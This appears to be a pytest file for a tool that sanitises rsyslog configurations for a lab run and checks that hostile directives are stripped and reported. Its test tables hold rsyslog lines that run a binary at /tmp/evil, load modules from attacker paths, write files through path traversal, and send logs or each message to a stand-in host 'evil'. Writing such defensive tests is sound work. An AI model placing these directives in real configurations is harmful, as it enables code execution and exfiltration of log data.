"""Hostile configurations in a lab: nothing of the user's is run but rsyslogd, and it writes and
sends nowhere else."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.lab.test_base_script import ES, fitted
from tuner.rainerscript.printing import printed

INPUT = 'input(type="imtcp" port="514")\n'
LEFT_OUT = {
    "omprog": '*.* action(type="omprog" binary="/tmp/evil")',
    "ompipe": "*.* |/tmp/evil",
    "ompipe, new form": '*.* action(type="ompipe" pipe="/tmp/evil")',
    "program": "*.* ^/tmp/evil;RSYSLOG_TraditionalFileFormat",
    "mmexternal": '*.* action(type="mmexternal" binary="/tmp/evil")',
    "improg": 'module(load="improg")\ninput(type="improg" binary="/tmp/evil" tag="t")',
    "a directive": "$ActionOMProgBinary /tmp/evil",
    "a file at a place that is read at the start": '*.* action(type="omfile" file=`cat /tmp/evil`)',
    "another host": "*.* @@evil:514",
    "a terminal": '*.* action(type="omusrmsg" users="evil")',
}
HOLES = {
    "a module by its path": 'module(load="/tmp/evil.so")',
    "a module above rsyslogd's": 'module(load="../../../tmp/evil")',
    "a module that is read at the start": "module(load=`cat /tmp/evil`)",
    "a program that gives keys": '*.* action(type="omfile" file="/var/log/x" cry.provider="gcry" '
    'cry.keyprogram="/tmp/evil")',
    "a program that gives a queue keys": '*.* action(type="omfile" file="/var/log/x" '
    'queue.type="Disk" queue.filename="q" queue.cry.provider="gcry" '
    'queue.cry.keyprogram="/tmp/evil")',
    "the environment": 'global(environment=["http_proxy=http://evil:1"])',
    "an engine of OpenSSL": 'global(defaultOpensslEngine="/tmp/evil.so")',
    "a request": 'module(load="fmhttp")\nset $!x = http_request("http://evil/" & $msg);',
    "a request as a condition": 'if http_request("http://evil/") == "x" then stop',
    "a server for each message": '*.* action(type="mmdarwin" socketpath="/tmp/evil")',
    "a file above the folder": '*.* action(type="omfile" file="/../../evil")',
    "files of a queue above the folder": '*.* action(type="omfile" file="/var/log/x" '
    'queue.type="Disk" queue.filename="../../evil/q")',
    "a file of errors": 'global(oversizemsg.errorfile="/tmp/evil")',
    "a file of an action's errors": '*.* action(type="omfile" file="/var/log/x" '
    'action.errorfile="/tmp/evil")',
    "a program that rotates files": '*.* action(type="omfile" file="/var/log/x" '
    'rotation.sizeLimit="1" rotation.sizeLimitCommand="/tmp/evil")',
    "a program of an outchannel": "$outchannel x,/var/log/x,1,/tmp/evil\n*.* :omfile:$x",
}  # fmt: skip


def bound(folder: Path, hostile: str) -> tuple[str, list[str]]:
    """The configuration that a lab runs, and what is said to be left out of it."""
    made = fitted(folder, f"{INPUT}{hostile}\n*.* {ES})\n")
    return printed(made.block), [str(one) for one in made.replaced]


@pytest.mark.parametrize("what", LEFT_OUT)
def test_what_runs_or_sends_elsewhere_is_left_out_and_said(what: str, tmp_path: Path) -> None:
    text, said = bound(tmp_path, LEFT_OUT[what])
    assert "evil" not in text
    assert any(f"{tmp_path}/rsyslog.conf:" in one for one in said)


@pytest.mark.parametrize("what", HOLES)
def test_no_parameter_runs_or_sends_elsewhere(what: str, tmp_path: Path) -> None:
    text, said = bound(tmp_path, HOLES[what])
    assert "/evil" not in text
    assert "evil:" not in text
    assert any(f"{tmp_path}/rsyslog.conf:" in one for one in said)


def test_a_module_of_the_old_form_is_one_of_rsyslogds_own(tmp_path: Path) -> None:
    assert 'module(load="evil")' in bound(tmp_path, "$ModLoad /tmp/evil.so")[0]


def test_files_whose_names_lead_above_the_folder_are_not_written(tmp_path: Path) -> None:
    template = 'template(name="up" type="string" string="/../../evil/%HOSTNAME%")'
    text, said = bound(tmp_path, f"{template}\n*.* ?up")
    assert "dynaFile" not in text
    assert f"{tmp_path}/rsyslog.conf:3:5: an action into a file outside of the lab" in said


def test_the_default_ruleset_stays_that_which_is_named(tmp_path: Path) -> None:
    text, _ = bound(tmp_path, "$DefaultRuleset other\n$RuleSet other\n*.* /var/log/other")
    assert text.rstrip().endswith("call other")


@pytest.mark.parametrize(
    "harmless",
    [
        'set $!x = exec_template("t");',
        'lookup_table(name="l" file="/etc/shadow")',
        '*.* action(type="mmnormalize" rulebase="/etc/shadow")',
        'template(name="t" type="plugin" plugin="standard")',
    ],
)
def test_what_only_rsyslogd_itself_reads_stays(harmless: str, tmp_path: Path) -> None:
    """It runs as nobody, and reads what everybody may."""
    text, _ = bound(tmp_path, harmless)
    assert harmless.removeprefix("*.* ").rstrip(";") in text


def test_a_template_of_a_plugin_has_no_room_for_a_number(tmp_path: Path) -> None:
    plugin = 'template(name="t" type="plugin" plugin="evil")'
    _, said = bound(tmp_path, f'{plugin}\n*.* {ES.replace("es", "two")} template="t")')
    assert any("an action whose template has no room for a number" in one for one in said)
